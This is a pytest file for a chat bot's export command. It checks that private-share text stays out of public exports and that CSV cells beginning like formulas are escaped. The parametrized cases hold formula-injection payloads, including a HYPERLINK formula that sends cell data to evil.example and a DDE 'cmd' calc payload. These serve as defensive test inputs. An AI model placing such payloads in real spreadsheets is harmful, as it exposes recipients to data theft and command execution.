"""`serendip export`: an item shows its public face, and no CSV cell is a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from bot.cli.export import CSV_COLUMNS, to_csv, to_json
from bot.models import ItemDraft, ShareInput
from bot.store import Store

T = "T1"
URL = "https://a.com/x"


def link() -> ItemDraft:
    return ItemDraft("link", f"link:{URL}", url=URL)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_a_public_item_shows_its_public_share_and_marks_the_private_one(
    store: Store,
) -> None:
    # Shared first in a private channel, then in a public one: one item, public.
    hidden = ShareInput(T, "G1", "1700000000.000100", "U1", f"<{URL}> secret layoffs plan", True)
    await store.save_message(hidden, [link()])
    shown = ShareInput(T, "C1", "1700000100.000100", "U2", f"worth a read <{URL}>", False)
    await store.save_message(shown, [link()])

    [item] = await store.export_items()

    assert item["private"] is False
    assert item["text"] == f"worth a read {URL}"
    assert item["shares"] == [
        {
            "user": "U1",
            "channel": "G1",
            "ts": "1700000000.000100",
            "text": f"{URL} secret layoffs plan",
            "private": True,
        },
        {"user": "U2", "channel": "C1", "ts": "1700000100.000100", "text": f"worth a read {URL}"},
    ]
    assert "layoffs" not in item["text"]
    written = to_csv([item])
    [row] = rows(written)
    assert (row["text"], row["channel"], row["user"]) == (f"worth a read {URL}", "C1", "U2")
    assert (row["private"], row["shares"]) == ("false", "2")
    assert "G1" not in written
    assert "layoffs" not in written
    assert '"private": true' in to_json([item])  # the admin's export still lists it, marked


async def test_a_private_item_shows_its_first_private_share(store: Store) -> None:
    first = ShareInput(T, "G1", "1700000000.000100", "U1", f"<{URL}> first", True)
    await store.save_message(first, [link()])
    second = ShareInput(T, "G2", "1700000100.000100", "U2", f"<{URL}> second", True)
    await store.save_message(second, [link()])

    [item] = await store.export_items()

    assert (item["private"], item["text"]) == (True, f"{URL} first")
    assert [s["private"] for s in item["shares"]] == [True, True]
    [row] = rows(to_csv([item]))
    assert (row["channel"], row["user"], row["private"]) == ("G1", "U1", "true")


def item(**fields: Any) -> dict[str, Any]:
    """An export record (docs/interface.md) with one share, changed by `fields`."""
    share = {"user": "U1", "channel": "C1", "ts": "1.0", "text": "hello"}
    record = {
        "id": "i1",
        "kind": "learning",
        "url": None,
        "title": None,
        "text": "hello",
        "private": False,
        "shares": [share],
        "votes": [],
        "created_at": "2025-11-23T09:00:00Z",
    }
    share.update(fields.pop("share", {}))
    return record | fields


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK("),
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
@pytest.mark.parametrize("column", ["text", "title", "url", "id"])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(
    column: str, cell: str, written: str
) -> None:
    [row] = rows(to_csv([item(**{column: cell})]))
    assert row[column].startswith(written)
    assert row[column] == f"'{cell}"


@pytest.mark.parametrize("field", ["channel", "user"])
def test_share_cells_are_written_as_text_too(field: str) -> None:
    [row] = rows(to_csv([item(share={field: "=cmd"})]))
    assert row[field] == "'=cmd"


@pytest.mark.parametrize(
    "cell", ["hello", "a = b", "x-1", "'quoted", "", "1+1", " =1", "two\rlines"]
)
def test_ordinary_cells_are_written_as_they_are(cell: str) -> None:
    [row] = rows(to_csv([item(text=cell)]))
    assert row["text"] == cell
    assert list(row) == list(CSV_COLUMNS)
    assert (row["shares"], row["votes"]) == ("1", "0")
